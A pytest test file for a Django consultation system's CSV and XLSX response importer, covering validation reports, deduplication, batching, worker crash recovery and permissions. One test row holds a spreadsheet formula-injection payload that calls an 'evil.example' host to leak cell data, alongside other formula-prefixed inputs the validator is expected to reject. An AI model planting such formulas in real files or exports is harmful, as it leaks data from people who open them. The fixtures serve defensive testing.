"""Offline responses: the whole file validated first, the row report, only the valid rows,
the same file twice, a corrected file, batches, and a worker killed mid-import."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from governance.audit import verify_chain
from governance.consultation.imports import services
from governance.consultation.imports.services import import_create, import_run, imports_due
from governance.consultation.tasks import scan_imports
from governance.models import (
    Answer,
    AuditEvent,
    ConsultationStatus,
    Response,
    ResponseImport,
    ResponseImportStatus,
)
from plangov.errors import Conflict, Forbidden, InvalidInput

from .consultation_import_helpers import (
    consultation_round,
    csv_bytes,
    good_row,
    header,
    question_ids,
    upload,
    xlsx_bytes,
)


@pytest.fixture(autouse=True)
def import_dir(settings: Any, tmp_path: Path) -> Path:
    settings.PLANGOV_IMPORT_DIR = tmp_path / "imports"
    return settings.PLANGOV_IMPORT_DIR


@pytest.fixture
def run_import(django_capture_on_commit_callbacks: Any, world: Any):  # type: ignore[no-untyped-def]
    def go(round: Any, data: bytes, *, name: str = "returns.csv", only_valid_rows: bool = False,
           actor: Any = None) -> tuple[ResponseImport, bool]:
        with django_capture_on_commit_callbacks(execute=True):
            record, duplicate = import_create(
                round=round, actor=actor or world.lead, upload=upload(data, name),
                filename=name, only_valid_rows=only_valid_rows)
        record.refresh_from_db()
        return record, duplicate

    return go


def report_of(record: ResponseImport) -> list[tuple[int, str]]:
    return [(p["row"], p["column"]) for p in record.report]


def problem(record: ResponseImport, row: int, column: str) -> str:
    return next(p["problem"] for p in record.report if p["row"] == row and p["column"] == column)


def test_a_valid_csv_imports_every_row_with_its_answers_and_one_audit_event(
        world: Any, run_import: Any, import_dir: Path) -> None:
    round = consultation_round(world)
    q = question_ids(round)
    rows = [header(round), good_row(1), good_row(2, audience="Parents and carers"),
            ["schools", "School questionnaire", "02/07/2016", "no", "Quieter classrooms", "",
             "", ""]]
    events = AuditEvent.objects.count()
    record, duplicate = run_import(round, csv_bytes(rows))
    assert not duplicate
    assert record.status == ResponseImportStatus.DONE
    assert (record.total_rows, record.imported_rows, record.skipped_rows) == (3, 3, 0)
    assert record.processed_rows == 3 and record.report == []
    responses = list(Response.objects.filter(round=round).order_by("pk"))
    assert [r.audience.slug for r in responses] == [
        "children-and-young-people", "parents-and-carers", "schools"]
    assert [r.channel for r in responses] == ["paper", "paper", "school"]
    assert responses[0].consent_to_quote and not responses[2].consent_to_quote
    assert responses[2].submitted_at.date().isoformat() == "2016-07-02"
    assert all(r.source == "imported" and r.response_import_id == record.pk for r in responses)
    assert len({r.fingerprint for r in responses}) == 3
    first = {a.question_id: a for a in Answer.objects.filter(response=responses[0])}
    assert first[q[0]].text == "More places to play (1)"
    assert first[q[1]].choices == ["yes"]
    assert first[q[2]].choices == ["park", "school"]
    assert first[q[3]].choices == ["agree"]
    assert set(Answer.objects.filter(response=responses[2]).values_list(
        "question_id", flat=True)) == {q[0]}
    # One audit event for the whole import: counts and hashes, no personal data.
    assert AuditEvent.objects.count() == events + 1
    event = AuditEvent.objects.latest("seq")
    assert event.action == "consultation.import" and event.actor == world.lead
    assert event.after["file_sha256"] == record.file_sha256
    assert event.after["imported_rows"] == 3 and len(event.after["responses_digest"]) == 64
    assert "More places" not in str(event.after)
    assert verify_chain().ok
    assert list(import_dir.glob("*")) == [import_dir / "tmp"]  # the stored file is gone


def test_an_xlsx_file_imports_like_its_csv(world: Any, run_import: Any) -> None:
    round = consultation_round(world)
    q = question_ids(round)
    rows: list[list[Any]] = [["Audience", "Consent_to_quote", *(f"q{x}" for x in q)],
                             ["children-and-young-people", True, "Safe routes", "No", "Park",
                              "Strongly agree"]]
    record, _ = run_import(round, xlsx_bytes(rows), name="event-notes.xlsx")
    assert record.status == ResponseImportStatus.DONE, record.report
    response = Response.objects.get(round=round)
    assert response.consent_to_quote and response.channel == "paper"
    assert Answer.objects.get(response=response, question_id=q[3]).choices == ["strongly_agree"]


def test_questions_may_be_headed_by_their_text(world: Any, run_import: Any) -> None:
    round = consultation_round(world)
    rows = [["audience", "what matters MOST to you?", "Do you feel safe?"],
            ["parents-and-carers", "Childcare", "no"]]
    record, _ = run_import(round, csv_bytes(rows))
    assert record.status == ResponseImportStatus.DONE, record.report
    assert record.imported_rows == 1


def test_wrong_columns_are_reported_on_row_one_and_nothing_is_written(
        world: Any, run_import: Any) -> None:
    round = consultation_round(world)
    q = question_ids(round)
    rows = [["audience", "postcode", "channel", "channel", str(q[1])], ["schools", "YO1", "", "",
                                                                        "yes"]]
    record, _ = run_import(round, csv_bytes(rows), only_valid_rows=True)
    assert record.status == ResponseImportStatus.INVALID
    assert (1, "postcode") in report_of(record)
    assert (1, "channel") in report_of(record)  # twice
    assert "must be answered" in problem(record, 1, f"q{q[0]}")  # a required question's column
    assert Response.objects.count() == 0


def test_a_file_without_an_audience_column_is_refused(world: Any, run_import: Any) -> None:
    round = consultation_round(world)
    record, _ = run_import(round, csv_bytes([[str(question_ids(round)[0])], ["Hello"]]))
    assert record.status == ResponseImportStatus.INVALID
    assert (1, "audience") in report_of(record)


def test_a_csv_not_in_utf8_is_reported_clearly(world: Any, run_import: Any) -> None:
    round = consultation_round(world)
    rows = [header(round), good_row(1), ["schools", "", "", "", "Caf\u00e9 culture", "", "", ""]]
    record, _ = run_import(round, csv_bytes(rows, encoding="cp1252"))
    assert record.status == ResponseImportStatus.INVALID
    assert "not UTF-8" in record.report[0]["problem"]
    assert "CSV UTF-8" in record.report[0]["problem"]
    assert Response.objects.count() == 0


def test_a_utf8_csv_with_a_byte_order_mark_is_read(world: Any, run_import: Any) -> None:
    round = consultation_round(world)
    data = csv_bytes([header(round), good_row(1)], encoding="utf-8-sig")
    assert data.startswith(b"\xef\xbb\xbf")
    record, _ = run_import(round, data)
    assert record.status == ResponseImportStatus.DONE, record.report


def test_an_old_xls_or_a_fake_xlsx_is_reported(world: Any, run_import: Any) -> None:
    round = consultation_round(world)
    record, _ = run_import(round, b"\xd0\xcf\x11\xe0" + b"\0" * 100, name="old.xls")
    assert record.status == ResponseImportStatus.INVALID and ".xls" in record.report[0]["problem"]
    record, _ = run_import(round, b"audience\nschools\n", name="fake.xlsx")
    assert record.status == ResponseImportStatus.INVALID
    assert "not an Excel workbook" in record.report[0]["problem"]
    record, _ = run_import(round, b"PK\x03\x04 not really a zip", name="broken.xlsx")
    assert record.status == ResponseImportStatus.INVALID


def test_bad_rows_are_reported_by_row_and_column(world: Any, run_import: Any) -> None:
    round = consultation_round(world)
    q = question_ids(round)
    rows = [
        header(round),
        good_row(1),                                                         # row 2: fine
        ["pensioners", "paper", "", "", "x", "", "", ""],                    # 3: audience
        ["schools", "carrier pigeon", "", "", "x", "", "", ""],              # 4: channel
        ["schools", "", "31/02/2016", "maybe", "x", "", "", ""],             # 5: date, consent
        ["schools", "", "", "", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "", "", ""],
        ["schools", "", "", "", "", "", "", ""],                             # 7: required
        ["schools", "", "", "", "x", "perhaps", "park;moon", "agree;disagree"],  # 8: choices
        ["schools", "", "", "", "x" * 10_001, "", "", ""],                   # 9: too long
        ["schools", "", "", "", "tab\x0bbed", "", "", ""],                   # 10: control char
        ["schools", "", "", "", "@SUM(A1)", "+1", "-park", ""],              # 11: formulas
        ["schools", "", "2099-01-01", "", "x", "", "", ""],                  # 12: future
        ["schools", "", "2016-01-01", "", "x", "", "", ""],                  # 13: before opening
        ["schools", "", "", "", "x", "", "", "", "extra"],                  # 14: too many cells
    ]
    record, _ = run_import(round, csv_bytes(rows))
    assert record.status == ResponseImportStatus.INVALID
    found = report_of(record)
    assert (3, "audience") in found and "children-and-young-people" in problem(
        record, 3, "audience")
    assert (4, "channel") in found
    assert (5, "submitted_on") in found and (5, "consent_to_quote") in found
    assert "formula" in problem(record, 6, f"q{q[0]}")
    assert problem(record, 7, f"q{q[0]}") in {"This question must be answered.",
                                              "Answer this question."}
    assert (8, f"q{q[1]}") in found and (8, f"q{q[2]}") in found and (8, f"q{q[3]}") in found
    assert "10,000" in problem(record, 9, f"q{q[0]}")
    assert "U+000B" in problem(record, 10, f"q{q[0]}")
    assert {(11, f"q{q[0]}"), (11, f"q{q[1]}"), (11, f"q{q[2]}")} <= set(found)
    assert "future" in problem(record, 12, "submitted_on")
    assert "before the consultation opened" in problem(record, 13, "submitted_on")
    assert (14, "column 9") in found
    assert 2 not in {row for row, _ in found}
    assert (record.total_rows, record.invalid_rows) == (13, 12)
    assert Response.objects.count() == 0  # nothing is written unless every row is valid


def test_only_the_valid_rows_when_the_coordinator_chooses_so(
        world: Any, run_import: Any, django_capture_on_commit_callbacks: Any) -> None:
    round = consultation_round(world)
    rows = [header(round), good_row(1), ["pensioners", "", "", "", "x", "", "", ""],
            good_row(3)]
    record, _ = run_import(round, csv_bytes(rows))
    assert record.status == ResponseImportStatus.INVALID and Response.objects.count() == 0
    # Having read the report, the coordinator imports the valid rows of the same file.
    with django_capture_on_commit_callbacks(execute=True):
        services.import_valid_rows(response_import=record, actor=world.lead)
    record.refresh_from_db()
    assert record.status == ResponseImportStatus.DONE
    assert (record.total_rows, record.imported_rows, record.invalid_rows) == (3, 2, 1)
    assert report_of(record) == [(3, "audience")]
    assert Response.objects.filter(round=round).count() == 2
    # Or chosen up front.
    other = consultation_round(world, status=ConsultationStatus.CLOSED)
    other_rows = [header(other), *rows[1:]]
    other_rows[1] = [*good_row(1)[:4], "Different", *good_row(1)[5:]]
    record, _ = run_import(other, csv_bytes(other_rows), only_valid_rows=True)
    assert record.status == ResponseImportStatus.DONE and record.imported_rows == 2


def test_the_same_file_twice_imports_nothing(world: Any, run_import: Any) -> None:
    round = consultation_round(world)
    data = csv_bytes([header(round), good_row(1), good_row(2)])
    first, _ = run_import(round, data)
    events = AuditEvent.objects.count()
    again, duplicate = run_import(round, data, name="returns (copy).csv")
    assert duplicate and again.pk == first.pk
    assert ResponseImport.objects.count() == 1
    assert Response.objects.filter(round=round).count() == 2
    assert AuditEvent.objects.count() == events


def test_a_corrected_file_adds_only_the_rows_not_seen_before(world: Any, run_import: Any) -> None:
    round = consultation_round(world)
    rows = [header(round), good_row(1), ["pensioners", "", "", "", "Late bus", "", "", ""],
            good_row(3)]
    first, _ = run_import(round, csv_bytes(rows), only_valid_rows=True)
    assert first.imported_rows == 2
    rows[2][0] = "parents-and-carers"  # corrected
    rows.append(good_row(4))  # and one more return arrived
    second, duplicate = run_import(round, csv_bytes(rows))
    assert not duplicate and second.status == ResponseImportStatus.DONE
    assert (second.total_rows, second.imported_rows, second.skipped_rows) == (4, 2, 2)
    assert Response.objects.filter(round=round).count() == 4
    assert Answer.objects.filter(response__round=round, text="Late bus").count() == 1


def test_two_identical_paper_returns_are_two_responses(world: Any, run_import: Any) -> None:
    round = consultation_round(world)
    same = ["children-and-young-people", "", "", "", "Parks", "Yes", "", ""]
    record, _ = run_import(round, csv_bytes([header(round), same, list(same)]))
    assert record.imported_rows == 2
    # ... and the same two again in a longer file are recognised, the third is new.
    record, _ = run_import(round, csv_bytes([header(round), same, same, same, good_row(9)]))
    assert (record.imported_rows, record.skipped_rows) == (2, 2)
    assert Response.objects.filter(round=round).count() == 4


def test_batches_split_the_file_and_progress_counts_every_row(
        world: Any, run_import: Any, settings: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    settings.PLANGOV_IMPORT_BATCH_ROWS = 3
    seen: list[tuple[int, int, int]] = []

    def watch(import_id: int, processed: int) -> None:
        record = ResponseImport.objects.get(pk=import_id)
        seen.append((processed, Response.objects.filter(response_import_id=import_id).count(),
                     record.total_rows))

    monkeypatch.setattr(services, "after_batch", watch)
    round = consultation_round(world)
    record, _ = run_import(round, csv_bytes([header(round), *(good_row(n) for n in range(7))]))
    assert record.status == ResponseImportStatus.DONE
    # 3 + 3 + 1: each batch committed its rows and its progress together.
    assert seen == [(3, 3, 7), (6, 6, 7), (7, 7, 7)]


class Killed(BaseException):
    """Stands for SIGKILL: nothing in the worker catches it."""


@pytest.mark.parametrize("how", ["scan after the lease", "restart from the first row"])
def test_a_worker_killed_mid_import_resumes_and_writes_every_row_once(
        world: Any, run_import: Any, settings: Any, monkeypatch: pytest.MonkeyPatch,
        frozen_clock: Any, django_capture_on_commit_callbacks: Any, how: str) -> None:
    settings.PLANGOV_IMPORT_BATCH_ROWS = 4

    def die_after_first_batch(import_id: int, processed: int) -> None:
        raise Killed()

    monkeypatch.setattr(services, "after_batch", die_after_first_batch)
    round = consultation_round(world)
    data = csv_bytes([header(round), *(good_row(n) for n in range(10))])
    with pytest.raises(Killed):
        run_import(round, data)
    record = ResponseImport.objects.get()
    assert record.status == ResponseImportStatus.IMPORTING
    assert (record.processed_rows, Response.objects.count()) == (4, 4)
    monkeypatch.setattr(services, "after_batch", lambda *a: None)
    # Within the lease nobody takes it over: the worker might still be alive.
    assert imports_due() == []
    assert import_run(import_id=record.pk) == "nothing to do"
    frozen_clock.advance(seconds=settings.PLANGOV_IMPORT_LEASE_SECONDS + 1)
    if how == "restart from the first row":
        ResponseImport.objects.filter(pk=record.pk).update(processed_rows=0, imported_rows=0,
                                                           skipped_rows=0)
    assert imports_due() == [record.pk]
    assert scan_imports() == 1  # eager: the scan's task runs the import to the end
    record.refresh_from_db()
    assert record.status == ResponseImportStatus.DONE
    assert Response.objects.filter(round=round).count() == 10
    assert Answer.objects.filter(response__round=round, question_id=question_ids(round)[0]
                                 ).values("text").distinct().count() == 10
    assert record.processed_rows == 10
    if how == "scan after the lease":
        assert (record.imported_rows, record.skipped_rows) == (10, 0)
    else:
        assert (record.imported_rows, record.skipped_rows) == (6, 4)
    assert AuditEvent.objects.filter(action="consultation.import").count() == 1
    assert import_run(import_id=record.pk) == "nothing to do"
    assert scan_imports() == 0


def test_who_may_import_and_when(world: Any, run_import: Any) -> None:
    round = consultation_round(world)
    data = csv_bytes([header(round), good_row(1)])
    for who in (world.board_secretary, world.auditor, world.outsider):
        with pytest.raises(Forbidden):
            run_import(round, data, actor=who)
    draft = consultation_round(world, status=ConsultationStatus.DRAFT)
    with pytest.raises(Conflict, match="not opened"):
        run_import(draft, data)
    closed = consultation_round(world, status=ConsultationStatus.CLOSED)
    record, _ = run_import(closed, csv_bytes([header(closed), good_row(1)]))
    assert record.status == ResponseImportStatus.DONE  # paper returns arrive late
    from plangov import clock

    type(closed).objects.filter(pk=closed.pk).update(summary_published_at=clock.now())
    closed.refresh_from_db()
    with pytest.raises(Conflict, match="published"):
        run_import(closed, csv_bytes([header(closed), good_row(2)]))
    assert ResponseImport.objects.count() == 1


def test_an_empty_or_too_big_file_is_refused_naming_file(
        world: Any, run_import: Any, settings: Any, import_dir: Path) -> None:
    round = consultation_round(world)
    with pytest.raises(InvalidInput) as empty:
        run_import(round, b"")
    assert "file" in empty.value.errors
    settings.PLANGOV_IMPORT_MAX_BYTES = 2048
    with pytest.raises(InvalidInput) as big:
        run_import(round, b"x" * 4096)
    assert "2 MB" not in big.value.errors["file"][0] and "MB" in big.value.errors["file"][0]
    assert not [p for p in import_dir.rglob("*") if p.is_file()]


def test_an_invalid_files_upload_is_kept_a_week_for_its_valid_rows_then_deleted(
        world: Any, run_import: Any, frozen_clock: Any, import_dir: Path) -> None:
    round = consultation_round(world)
    rows = [header(round), good_row(1), ["pensioners", "", "", "", "x", "", "", ""]]
    record, _ = run_import(round, csv_bytes(rows))
    assert services.path_for(record.file_sha256).exists()
    assert services.discard_stale_files() == 0
    frozen_clock.advance(days=8)
    assert services.discard_stale_files() == 1
    assert not services.path_for(record.file_sha256).exists()
    with pytest.raises(Conflict):
        services.import_valid_rows(response_import=record, actor=world.lead)


def test_a_fault_of_ours_marks_the_import_failed_and_writes_no_half_batch(
        world: Any, run_import: Any, settings: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    settings.PLANGOV_IMPORT_BATCH_ROWS = 2
    real = services._raw_insert
    calls: list[str] = []

    def broken_second_batch(model: Any, given: Any, rows: Any) -> None:
        calls.append(model.__name__)
        if len(calls) == 4:  # the second batch's answers
            raise RuntimeError("disk on fire")
        real(model, given, rows)

    monkeypatch.setattr(services, "_raw_insert", broken_second_batch)
    round = consultation_round(world)
    run_import(round, csv_bytes([header(round), *(good_row(n) for n in range(5))]))
    record = ResponseImport.objects.get()  # the worker logs the error (eager: not raised)
    assert record.status == ResponseImportStatus.FAILED
    assert "fault of plangov" in record.report[-1]["problem"]
    assert "disk on fire" not in str(record.report)
    assert (record.processed_rows, Response.objects.count()) == (2, 2)  # batch 1 only
    assert not AuditEvent.objects.filter(action="consultation.import").exists()
